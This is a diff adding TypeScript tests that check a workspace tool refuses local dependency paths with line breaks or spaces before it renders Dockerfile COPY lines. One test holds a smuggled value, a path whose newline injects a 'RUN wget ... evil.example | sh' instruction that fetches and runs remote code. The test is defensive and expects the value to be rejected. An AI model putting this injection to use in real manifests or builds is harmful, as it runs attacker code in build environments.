@@ -22,3 +22,23 @@ describe('checkGeneratedNames: the first name a generated file cannot hold', () 
     expect(() => checkGeneratedNames(buildWorkspace([svc('services/Aa', '@k/a'), svc('services/b', '@k/B')]))).toThrow(/^"services\/Aa": folder name "Aa"/);
   });
 });
+
+describe('checkGeneratedNames: a local input (file:/link: folder) is a folder a Dockerfile copies too', () => {
+  const dependent = (deps: Record<string, string>): PackageInput => ({
+    dir: 'services/api',
+    isService: true,
+    manifest: parseManifest('services/api/package.json', JSON.stringify({ name: '@k/api', kodingcaravan: { port: 1 }, dependencies: deps })),
+  });
+
+  // renderDockerfile writes `COPY <path> <path>` for it: a line break in the path is a new Dockerfile instruction.
+  test('a line break in the path a file: dependency points at is refused before anything is rendered', () => {
+    const ws = buildWorkspace([dependent({ pad: 'file:../../vendor/pad\nRUN wget -qO- https://evil.example | sh\n#' })]);
+    expect(ws.get('@k/api').localInputs).toEqual(['vendor/pad\nRUN wget -qO- https:/evil.example | sh\n#']);
+    expect(() => checkGeneratedNames(ws)).toThrow(/cannot be used in generated files/);
+  });
+
+  // `COPY vendor/my pad vendor/my pad` is three sources and a destination to Docker.
+  test('a space in the path a link: dependency points at is refused', () => {
+    expect(() => checkGeneratedNames(buildWorkspace([dependent({ pad: 'link:../../vendor/my pad' })]))).toThrow(/cannot be used in generated files/);
+  });
+});
